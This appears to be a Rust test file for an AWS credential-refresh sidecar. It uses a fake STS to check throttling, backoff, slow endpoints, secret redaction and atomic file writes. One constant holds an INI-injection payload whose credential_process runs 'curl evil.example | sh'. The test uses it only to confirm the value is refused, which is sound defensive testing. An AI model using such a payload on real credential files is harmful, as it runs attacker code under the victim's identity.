//! STS faults against the sidecar, beyond moto stopped (tests/refresh.rs):
//! a slow STS (a delaying TCP proxy in front of moto), an STS that throttles
//! and answers 503, and a thousand refreshes under concurrent readers.
//!
//! Stated call rate: the sidecar makes at most one STS call chain per
//! second (`refresh::MIN_DELAY`, also the first backoff step), and after
//! consecutive failures the gaps grow (1 s, 1–2 s, 2–4 s, 4–8 s, ... up to
//! 5 min, each drawn at random in the upper half of its step).

mod common;

use std::collections::HashSet;
use std::io::{BufRead, BufReader, Read, Write};
use std::net::{TcpListener, TcpStream};
use std::sync::atomic::{AtomicBool, AtomicU8, AtomicUsize, Ordering};
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

use common::*;
use tempcreds_core::{SidecarConfig, Source};
use tempcreds_sidecar::app::StsRefresh;
use tempcreds_sidecar::output::Output;
use tempcreds_sidecar::refresh::Refresh as _;
use tempcreds_sidecar::sts::Sts;
use tempcreds_tests::Moto;
use time::OffsetDateTime;
use time::format_description::well_known::Rfc3339;

const ID: &str = "AKIAFAULTSEXAMPLE001";
const SECRET: &str = "faultsSecretAccessKeyValue+1";

/// How [`FakeSts`] answers.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
#[repr(u8)]
enum Mode {
    /// AssumeRole / AssumeRoleWithWebIdentity succeed with fresh keys.
    Ok = 0,
    /// `400 Throttling: Rate exceeded` and `503 ServiceUnavailable`, in turn.
    ThrottleAnd503 = 1,
    /// A well-formed answer whose AccessKeyId carries a newline, an `[evil]`
    /// section and a `credential_process` line (INI injection).
    InjectingKeyId = 2,
    /// A well-formed answer whose credentials expired an hour ago.
    Expired = 3,
    /// `200 OK` with a body that is not an STS answer.
    Garbage200 = 4,
    /// Calls that carry a secret (a `WebIdentityToken`, or an
    /// `X-Amz-Security-Token` header: a chained call) get `400` with the
    /// whole request echoed in the error message; other calls succeed.
    EchoSecrets = 5,
}

/// What [`Mode::InjectingKeyId`] answers as AccessKeyId.
const INJECTED_KEY_ID: &str =
    "ASIAFAKE000000000000\n[evil]\ncredential_process = /bin/sh -c 'curl evil.example | sh'";

/// A fake STS for what moto cannot do: throttle, fail with 5xx, issue
/// credentials with a chosen lifetime, and misbehave as a hostile or broken
/// endpoint would (see [`Mode`]). It speaks just enough HTTP/1.1 (one
/// request per connection) and the STS query protocol's XML for the AWS SDK,
/// and records when each request arrived and what it was answered.
struct FakeSts {
    port: u16,
    mode: Arc<AtomicU8>,
    /// (arrival, HTTP status answered)
    calls: Arc<Mutex<Vec<(Instant, u16)>>>,
    stop: Arc<AtomicBool>,
}

impl FakeSts {
    fn start(lifetime: Duration) -> FakeSts {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let port = listener.local_addr().unwrap().port();
        let mode = Arc::new(AtomicU8::new(Mode::Ok as u8));
        let calls = Arc::new(Mutex::new(Vec::new()));
        let stop = Arc::new(AtomicBool::new(false));
        let (m, c, s) = (mode.clone(), calls.clone(), stop.clone());
        std::thread::spawn(move || {
            let issued = AtomicUsize::new(0);
            for conn in listener.incoming() {
                if s.load(Ordering::Relaxed) {
                    return;
                }
                let Ok(conn) = conn else { continue };
                let _ = Self::answer(conn, &m, &c, &issued, lifetime);
            }
        });
        FakeSts {
            port,
            mode,
            calls,
            stop,
        }
    }

    fn url(&self) -> String {
        format!("http://127.0.0.1:{}", self.port)
    }

    fn set(&self, mode: Mode) {
        self.mode.store(mode as u8, Ordering::SeqCst);
    }

    fn calls(&self) -> Vec<(Instant, u16)> {
        self.calls.lock().unwrap().clone()
    }

    fn answer(
        conn: TcpStream,
        mode: &AtomicU8,
        calls: &Mutex<Vec<(Instant, u16)>>,
        issued: &AtomicUsize,
        lifetime: Duration,
    ) -> std::io::Result<()> {
        conn.set_read_timeout(Some(Duration::from_secs(5)))?;
        let mut reader = BufReader::new(conn.try_clone()?);
        let mut length = 0;
        let mut request = String::new();
        loop {
            let mut line = String::new();
            if reader.read_line(&mut line)? == 0 {
                return Ok(());
            }
            request.push_str(&line);
            if let Some(v) = line.to_ascii_lowercase().strip_prefix("content-length:") {
                length = v.trim().parse().unwrap_or(0);
            }
            if line == "\r\n" {
                break;
            }
        }
        let mut body = vec![0; length];
        reader.read_exact(&mut body)?;
        let body = String::from_utf8_lossy(&body);
        request.push_str(&body);
        let action = body
            .split('&')
            .find_map(|p| p.strip_prefix("Action="))
            .unwrap_or("AssumeRole")
            .to_owned();
        let mut calls = calls.lock().unwrap();
        let current = mode.load(Ordering::SeqCst);
        let carries_secret = request
            .to_ascii_lowercase()
            .contains("x-amz-security-token:")
            || request.contains("WebIdentityToken=");
        let success = |key_id: Option<&str>, lifetime: time::Duration| {
            let n = issued.fetch_add(1, Ordering::Relaxed);
            let expiration = (OffsetDateTime::now_utc() + lifetime)
                .replace_nanosecond(0)
                .unwrap()
                .format(&Rfc3339)
                .unwrap();
            let key_id = key_id.map_or_else(|| format!("ASIAFAKE{n:012}"), str::to_owned);
            format!(
                "<{action}Response xmlns=\"https://sts.amazonaws.com/doc/2011-06-15/\"><{action}Result>\
                 <Credentials><AccessKeyId>{key_id}</AccessKeyId>\
                 <SecretAccessKey>fakeSecret{n:030}</SecretAccessKey>\
                 <SessionToken>fakeSessionToken{n:060}</SessionToken>\
                 <Expiration>{expiration}</Expiration></Credentials>\
                 <AssumedRoleUser><AssumedRoleId>AROAFAKE:s</AssumedRoleId>\
                 <Arn>arn:aws:sts::123456789012:assumed-role/app/s</Arn></AssumedRoleUser>\
                 </{action}Result><ResponseMetadata><RequestId>r{n}</RequestId></ResponseMetadata>\
                 </{action}Response>"
            )
        };
        let lifetime = time::Duration::try_from(lifetime).unwrap();
        let (status, xml) = if current == Mode::Ok as u8
            || (current == Mode::EchoSecrets as u8 && !carries_secret)
        {
            (200, success(None, lifetime))
        } else if current == Mode::InjectingKeyId as u8 {
            (200, success(Some(INJECTED_KEY_ID), lifetime))
        } else if current == Mode::Expired as u8 {
            (200, success(None, time::Duration::hours(-1)))
        } else if current == Mode::Garbage200 as u8 {
            (
                200,
                "<html><body>Welcome to nginx!</body></html>".to_owned(),
            )
        } else if current == Mode::EchoSecrets as u8 {
            // The secret-bearing parts first, so that the sidecar's cut to a
            // few hundred characters cannot be what hides them.
            let (secret_lines, other_lines): (Vec<&str>, Vec<&str>) = request
                .split("\r\n")
                .partition(|l| l.to_ascii_lowercase().starts_with("x-amz-security-token"));
            let request = format!(
                "{} {body} {}",
                secret_lines.join(" "),
                other_lines.join(" ")
            );
            let echoed = request
                .replace('&', "&amp;")
                .replace('<', "&lt;")
                .replace('>', "&gt;");
            (
                400,
                format!(
                    "<ErrorResponse><Error><Type>Sender</Type><Code>InvalidParameterValue</Code>\
                     <Message>Could not parse the request: {echoed}</Message></Error>\
                     <RequestId>e</RequestId></ErrorResponse>"
                ),
            )
        } else if calls.len().is_multiple_of(2) {
            (
                400,
                "<ErrorResponse><Error><Type>Sender</Type><Code>Throttling</Code>\
                   <Message>Rate exceeded</Message></Error><RequestId>t</RequestId></ErrorResponse>"
                    .to_owned(),
            )
        } else {
            (503, "<ErrorResponse><Error><Type>Receiver</Type><Code>ServiceUnavailable</Code>\
                   <Message>Service is unavailable</Message></Error><RequestId>u</RequestId></ErrorResponse>"
                .to_owned())
        };
        calls.push((Instant::now(), status));
        drop(calls);
        let mut conn = conn;
        write!(
            conn,
            "HTTP/1.1 {status} X\r\nContent-Type: text/xml\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{xml}",
            xml.len()
        )?;
        conn.flush()
    }
}

impl Drop for FakeSts {
    fn drop(&mut self) {
        self.stop.store(true, Ordering::Relaxed);
        let _ = TcpStream::connect(("127.0.0.1", self.port));
    }
}

/// A TCP proxy in front of STS that, while told to hold, keeps every answer
/// from upstream until told to let go: an STS that takes as long as the
/// test wants, without the test depending on how long anything takes.
struct HoldProxy {
    port: u16,
    hold: Arc<AtomicBool>,
    held: Arc<AtomicUsize>,
}

impl HoldProxy {
    fn start(upstream: u16) -> HoldProxy {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let port = listener.local_addr().unwrap().port();
        let hold = Arc::new(AtomicBool::new(false));
        let held = Arc::new(AtomicUsize::new(0));
        let (h, n) = (hold.clone(), held.clone());
        std::thread::spawn(move || {
            for client in listener.incoming().flatten() {
                let Ok(server) = TcpStream::connect(("127.0.0.1", upstream)) else {
                    continue;
                };
                let (mut c_in, mut s_out) =
                    (client.try_clone().unwrap(), server.try_clone().unwrap());
                std::thread::spawn(move || {
                    let _ = std::io::copy(&mut c_in, &mut s_out);
                    let _ = s_out.shutdown(std::net::Shutdown::Write);
                });
                let (mut s_in, mut c_out) = (server, client);
                let (hold, held) = (h.clone(), n.clone());
                std::thread::spawn(move || {
                    let mut buf = [0; 16 * 1024];
                    let mut first = true;
                    while let Ok(n) = s_in.read(&mut buf) {
                        if n == 0 {
                            break;
                        }
                        if first && hold.load(Ordering::SeqCst) {
                            held.fetch_add(1, Ordering::SeqCst);
                            while hold.load(Ordering::SeqCst) {
                                std::thread::sleep(Duration::from_millis(10));
                            }
                            held.fetch_sub(1, Ordering::SeqCst);
                        }
                        first = false;
                        if c_out.write_all(&buf[..n]).is_err() {
                            break;
                        }
                    }
                    let _ = c_out.shutdown(std::net::Shutdown::Write);
                });
            }
        });
        HoldProxy { port, hold, held }
    }

    fn url(&self) -> String {
        format!("http://127.0.0.1:{}", self.port)
    }

    /// Holds answers from now on (`true`), or lets every held one go.
    fn hold(&self, on: bool) {
        self.hold.store(on, Ordering::SeqCst);
    }

    /// Answers being held now.
    fn held(&self) -> usize {
        self.held.load(Ordering::SeqCst)
    }
}

/// The `error` fields of the sidecar's JSON log lines.
fn logged_errors(logs: &str) -> Vec<String> {
    logs.lines()
        .filter_map(|l| serde_json::from_str::<serde_json::Value>(l).ok())
        .filter_map(|v| v["error"].as_str().map(str::to_owned))
        .collect()
}

#[test]
fn answers_that_would_add_a_profile_are_expired_or_not_sts_are_refused_before_anything_is_written()
{
    let sts = FakeSts::start(Duration::from_secs(3600));
    let w = World::new();
    let keys = w.keys(ID, SECRET);
    let url = sts.url();
    for (mode, expected) in [
        (
            Mode::InjectingKeyId,
            "AssumeRole arn:aws:iam::123456789012:role/app: unusable answer from the STS endpoint \
             (credentials refused: AccessKeyId \"ASIAFAKE000000000000\\n[evil]\\ncredential_p\"… \
             contains '\\n' (U+000A); only letters, digits and _ are accepted); nothing was written.",
        ),
        (
            Mode::Expired,
            " already expired; credentials must be valid for at least 30s more",
        ),
        (
            Mode::Garbage200,
            "unusable answer from the STS endpoint (HTTP 200 with a body that is not an STS \
             AssumeRole answer: \"<html><body>Welcome to nginx!</body></html>\"); nothing was written. \
             The endpoint is not STS, or it misbehaves: check --sts-endpoint",
        ),
    ] {
        sts.set(mode);
        let out = w.once(&secret_args(&keys, &url, Some(&role("app"))));
        let err = stderr(&out);
        assert_eq!(out.status.code(), Some(1), "{mode:?}: {err}");
        let errors = logged_errors(&err).join("\n");
        assert!(errors.contains(expected), "{mode:?}: {errors}");
        assert!(!errors.contains("STS refused the request"), "{errors}");
        assert_no_secrets(&err, &[SECRET, "fakeSecret0000", "fakeSessionToken0000"]);
        let written: Vec<_> = std::fs::read_dir(&w.out).unwrap().collect();
        assert!(written.is_empty(), "{mode:?}: files written: {written:?}");
    }
}

#[test]
fn a_refused_answer_keeps_the_last_credentials_and_is_retried() {
    let sts = FakeSts::start(Duration::from_secs(3600));
    let w = World::new();
    let mut keys = w.keys(ID, SECRET);
    let url = sts.url();
    let mut sidecar = w.spawn(&mut w.sidecar(&secret_args(&keys, &url, Some(&role("app")))));
    sidecar.wait_ready();
    let files = || {
        ["credentials", "credentials.json", "config"]
            .map(|n| std::fs::read_to_string(w.out.join(n)).unwrap())
    };
    let good = files();

    // The endpoint turns hostile; a key rotation makes the sidecar call now.
    sts.set(Mode::InjectingKeyId);
    keys.update(&[
        ("aws_access_key_id", "AKIAFAULTSEXAMPLE002"),
        ("aws_secret_access_key", "faultsSecretAccessKeyValue+2"),
    ]);
    wait_until("two refused answers", Duration::from_secs(120), || {
        sidecar
            .logs()
            .matches("credentials refused: AccessKeyId")
            .count()
            >= 2
    });
    assert_eq!(files(), good, "the files changed");
    assert!(!files().iter().any(|f| f.contains("evil")));
    assert_eq!(sidecar.probe("/readyz"), Some(200), "readiness dropped");
    let logs = sidecar.logs();
    assert!(logs.contains("refreshing credentials failed"), "{logs}");
    assert!(logs.contains("\"attempt\":2"), "{logs}");
    assert_no_secrets(
        &logs,
        &[SECRET, "faultsSecretAccessKeyValue+2", "fakeSecret0000"],
    );
}

#[test]
fn an_endpoint_echoing_the_request_gets_no_secret_into_the_logs() {
    let sts = FakeSts::start(Duration::from_secs(3600));
    sts.set(Mode::EchoSecrets);
    let w = World::new();
    let url = sts.url();

    // AssumeRoleWithWebIdentity: the token is in the echoed body.
    let jwt = fake_jwt("system:serviceaccount:ns:app");
    let token = w.token(&jwt);
    let token_file = token.path("token").display().to_string();
    let web = role("web");
    let out = w.once(&web_identity_args(&web, &token_file, &url));
    let err = stderr(&out);
    assert_eq!(out.status.code(), Some(1), "{err}");
    let errors = logged_errors(&err).join("\n");
    assert!(
        errors.contains("InvalidParameterValue: Could not parse the request: ")
            && errors.contains("WebIdentityToken=** redacted **"),
        "{errors}"
    );
    let signature = jwt.rsplit('.').next().unwrap();
    assert_no_secrets(&err, &[&jwt, signature]);

    // A chained AssumeRole: the first session's token is in the echoed
    // X-Amz-Security-Token header.
    let keys = w.keys(ID, SECRET);
    let next = role("next");
    let mut args = secret_args(&keys, &url, Some(&role("app")));
    args.extend(["--chain-role-arn".to_owned(), next]);
    let out = w.once(&args);
    let err = stderr(&out);
    assert_eq!(out.status.code(), Some(1), "{err}");
    let errors = logged_errors(&err).join("\n");
    assert!(
        errors.contains("AssumeRole arn:aws:iam::123456789012:role/next: InvalidParameterValue")
            && errors.contains("x-amz-security-token: ** redacted **"),
        "{errors}"
    );
    assert_no_secrets(&err, &[SECRET, "fakeSessionToken0000", "fakeSecret0000"]);
}

#[test]
fn throttling_and_503s_keep_the_credentials_and_back_off_with_growing_gaps() {
    let sts = FakeSts::start(Duration::from_secs(3600));
    let w = World::new();
    let mut keys = w.keys(ID, SECRET);
    let url = sts.url();
    let mut sidecar = w.spawn(&mut w.sidecar(&secret_args(&keys, &url, Some(&role("app")))));
    sidecar.wait_ready();
    let good = w.credentials();

    // STS starts refusing; a key rotation makes the sidecar call right away.
    sts.set(Mode::ThrottleAnd503);
    keys.update(&[
        ("aws_access_key_id", "AKIAFAULTSEXAMPLE002"),
        ("aws_secret_access_key", "faultsSecretAccessKeyValue+2"),
    ]);
    // Five failed attempts: at 0, 1, 2–3, 4–7 and 8–15 s (later on a
    // loaded machine; the limit only bounds a hung test).
    wait_until("five refused calls", Duration::from_secs(120), || {
        assert_eq!(
            w.credentials(),
            good,
            "the credentials changed while STS refused"
        );
        assert_eq!(sidecar.probe("/readyz"), Some(200), "readiness dropped");
        sts.calls().len() >= 6
    });
    let calls = sts.calls();
    let refused: Vec<Instant> = calls[1..].iter().map(|(t, _)| *t).collect();
    let statuses: Vec<u16> = calls[1..].iter().map(|(_, s)| *s).collect();
    let gaps: Vec<f64> = refused
        .windows(2)
        .map(|w| (w[1] - w[0]).as_secs_f64())
        .collect();
    eprintln!(
        "retry timeline (s after the first refused call): {:?}",
        refused
            .iter()
            .map(|t| format!("{:.2}", (*t - refused[0]).as_secs_f64()))
            .collect::<Vec<_>>()
    );
    eprintln!("answers: {statuses:?}; gaps (s): {gaps:.2?}");
    assert!(
        statuses.contains(&400) && statuses.contains(&503),
        "{statuses:?}"
    );
    // Each gap is at least the shortest delay of its backoff step (1 s,
    // 1–2 s, 2–4 s, 4–8 s): never more than one call per second, and the
    // floor grows. Only floors are checked: a timer never fires early, but
    // a loaded machine may make any gap longer (the steps' exact ranges are
    // checked with tokio's paused time in `refresh`'s unit tests).
    let floors = [1.0, 1.0, 2.0, 4.0];
    for (gap, low) in gaps.iter().zip(floors) {
        assert!(
            *gap >= low - 0.01,
            "gap {gap:.2} s shorter than {low} s: {gaps:.2?}"
        );
    }
    let logs = sidecar.logs();
    assert!(
        logs.contains("Throttling") && logs.contains("ServiceUnavailable"),
        "{logs}"
    );
    assert!(logs.contains("valid_credentials_on_disk\":true"), "{logs}");

    // STS recovers; the next attempt (here: another rotation) succeeds.
    sts.set(Mode::Ok);
    keys.update(&[
        ("aws_access_key_id", "AKIAFAULTSEXAMPLE003"),
        ("aws_secret_access_key", "faultsSecretAccessKeyValue+3"),
    ]);
    wait_until(
        "new credentials after recovery",
        Duration::from_secs(10),
        || w.credentials() != good,
    );
    assert_no_secrets(&sidecar.logs(), &[SECRET, "faultsSecretAccessKeyValue+2"]);
}

#[test]
fn a_slow_sts_delays_refreshes_but_not_the_health_endpoints_or_the_files() {
    let moto = Moto::start();
    let proxy = HoldProxy::start(moto.port());
    let w = World::new();
    let mut keys = w.keys(ID, SECRET);
    let url = proxy.url();
    let mut sidecar = w.spawn(&mut w.sidecar(&secret_args(&keys, &url, Some(&role("app")))));
    sidecar.wait_ready();
    let before = w.credentials();

    // STS stops answering; a key rotation makes the sidecar call now.
    proxy.hold(true);
    keys.update(&[
        ("aws_access_key_id", "AKIAFAULTSEXAMPLE002"),
        ("aws_secret_access_key", "faultsSecretAccessKeyValue+2"),
    ]);
    wait_until(
        "the sidecar waiting on STS",
        Duration::from_secs(120),
        || proxy.held() >= 1,
    );
    // While it waits: probes answer, the files stay complete and unchanged.
    for _ in 0..20 {
        assert_eq!(sidecar.probe("/healthz"), Some(200));
        assert_eq!(sidecar.probe("/readyz"), Some(200));
        assert_eq!(w.credentials(), before);
        assert!(w.written_key_id().is_some());
    }
    assert!(proxy.held() >= 1, "STS answered while the probes ran");

    // STS answers: the refresh completes.
    proxy.hold(false);
    wait_until(
        "the credentials of the held answer",
        Duration::from_secs(120),
        || w.credentials() != before,
    );
    assert_no_secrets(&sidecar.logs(), &[SECRET, "faultsSecretAccessKeyValue+2"]);
}

/// A thousand refreshes, each the sidecar's real STS call (against the fake
/// STS, whose short-lived answers moto cannot give) and its real atomic
/// writes, while four threads keep reading both credential files: not one
/// read sees a partial, empty or unparsable file.
///
/// The refreshes are driven directly through `StsRefresh::refresh`, the step
/// the refresh loop runs each time: the loop itself waits at least a second
/// between attempts (`MIN_DELAY`), so a thousand of them through the binary
/// would take over 15 minutes.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_thousand_refreshes_under_concurrent_readers_never_show_a_torn_file() {
    let sts = FakeSts::start(Duration::from_secs(60));
    let w = World::new();
    let keys = w.keys(ID, SECRET);
    let mut config = SidecarConfig::new(Source::Secret);
    config.role_arn = Some(role("app").parse().unwrap());
    config.access_key_id_file = Some(keys.path("aws_access_key_id"));
    config.secret_access_key_file = Some(keys.path("aws_secret_access_key"));
    config.region = Some("us-east-1".into());
    config.sts_endpoint = Some(sts.url());
    config.output_dir = w.out.clone();
    let sts_client = Sts::new(&config).await.unwrap();
    let mut refresher = StsRefresh::new(sts_client, Output::new(&w.out, "default"), &config);
    refresher.refresh().await.unwrap();

    let stop = Arc::new(AtomicBool::new(false));
    let torn = Arc::new(Mutex::new(Vec::new()));
    let reads = Arc::new(AtomicUsize::new(0));
    let seen = Arc::new(Mutex::new(HashSet::new()));
    let readers: Vec<_> = [
        "credentials",
        "credentials.json",
        "credentials",
        "credentials.json",
    ]
    .into_iter()
    .map(|name| {
        let path = w.out.join(name);
        let (stop, torn, reads, seen) = (stop.clone(), torn.clone(), reads.clone(), seen.clone());
        std::thread::spawn(move || {
            while !stop.load(Ordering::Relaxed) {
                let text = std::fs::read_to_string(&path).unwrap_or_default();
                reads.fetch_add(1, Ordering::SeqCst);
                let id = if name == "credentials" {
                    (text.ends_with('\n') && text.contains("aws_session_token = fakeSessionToken"))
                        .then(|| ini_value(&text, "aws_access_key_id"))
                        .flatten()
                } else {
                    serde_json::from_str::<serde_json::Value>(&text)
                        .ok()
                        .filter(|v| v["Version"] == 1 && v["Expiration"].is_string())
                        .and_then(|v| v["AccessKeyId"].as_str().map(str::to_owned))
                };
                match id {
                    Some(id) => {
                        seen.lock().unwrap().insert(id);
                    }
                    None => torn.lock().unwrap().push(format!("{name}: {text:?}")),
                }
            }
        })
    })
    .collect();

    let start = Instant::now();
    for i in 0..1000 {
        if let Err(e) = refresher.refresh().await {
            panic!("refresh {i} failed: {e}");
        }
        if i % 100 == 99 {
            // A checkpoint: wait for eight more reads. At most four were
            // under way before, so at least one read saw this refresh's
            // files: the readers overlap the whole run, however the
            // machine schedules them.
            let target = reads.load(Ordering::SeqCst) + 8;
            while reads.load(Ordering::SeqCst) < target {
                tokio::task::yield_now().await;
                std::thread::yield_now();
            }
        }
    }
    let took = start.elapsed();
    stop.store(true, Ordering::Relaxed);
    for r in readers {
        r.join().unwrap();
    }
    let torn = torn.lock().unwrap();
    let reads = reads.load(Ordering::SeqCst);
    let seen = seen.lock().unwrap().len();
    eprintln!(
        "1000 refreshes in {took:?}; {reads} reads, {} torn; {seen} distinct keys seen",
        torn.len()
    );
    assert!(
        torn.is_empty(),
        "{} torn reads, e.g. {:?}",
        torn.len(),
        &torn[..torn.len().min(3)]
    );
    assert_eq!(sts.calls().len(), 1001);
    assert!(seen >= 10, "readers saw only {seen} different keys");
    let leftovers: Vec<_> = std::fs::read_dir(&w.out)
        .unwrap()
        .map(|e| e.unwrap().file_name().into_string().unwrap())
        .filter(|n| n.starts_with('.'))
        .collect();
    assert!(leftovers.is_empty(), "temporary files left: {leftovers:?}");
}

/// Memory stays flat over many refreshes: each refresh builds STS clients
/// with the credentials that sign its calls, and nothing of them may stay
/// behind (`make bench` measures the release binary's VmRSS at refresh 10
/// and 100; this checks the trend over 1,500 refreshes in process).
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn refreshes_do_not_grow_memory() {
    let sts = FakeSts::start(Duration::from_secs(3600));
    let w = World::new();
    let keys = w.keys(ID, SECRET);
    let mut config = SidecarConfig::new(Source::Secret);
    config.role_arn = Some(role("app").parse().unwrap());
    config.access_key_id_file = Some(keys.path("aws_access_key_id"));
    config.secret_access_key_file = Some(keys.path("aws_secret_access_key"));
    config.region = Some("us-east-1".into());
    config.sts_endpoint = Some(sts.url());
    config.output_dir = w.out.clone();
    let sts_client = Sts::new(&config).await.unwrap();
    let mut refresher = StsRefresh::new(sts_client, Output::new(&w.out, "default"), &config);
    let mut samples = Vec::new();
    for i in 1..=1500 {
        refresher.refresh().await.unwrap();
        if i % 300 == 0 {
            samples.push((i, tempcreds_tests::vm_rss_kib()));
        }
    }
    eprintln!("VmRSS (KiB) by refresh: {samples:?}");
    let growth = samples.last().unwrap().1 - samples[0].1;
    // A leak of ~0.7 KiB per refresh is ~850 KiB here; allocator noise is
    // far below 256 KiB.
    assert!(
        growth < 256,
        "RSS grew {growth} KiB over 1,200 refreshes: {samples:?}"
    );
}
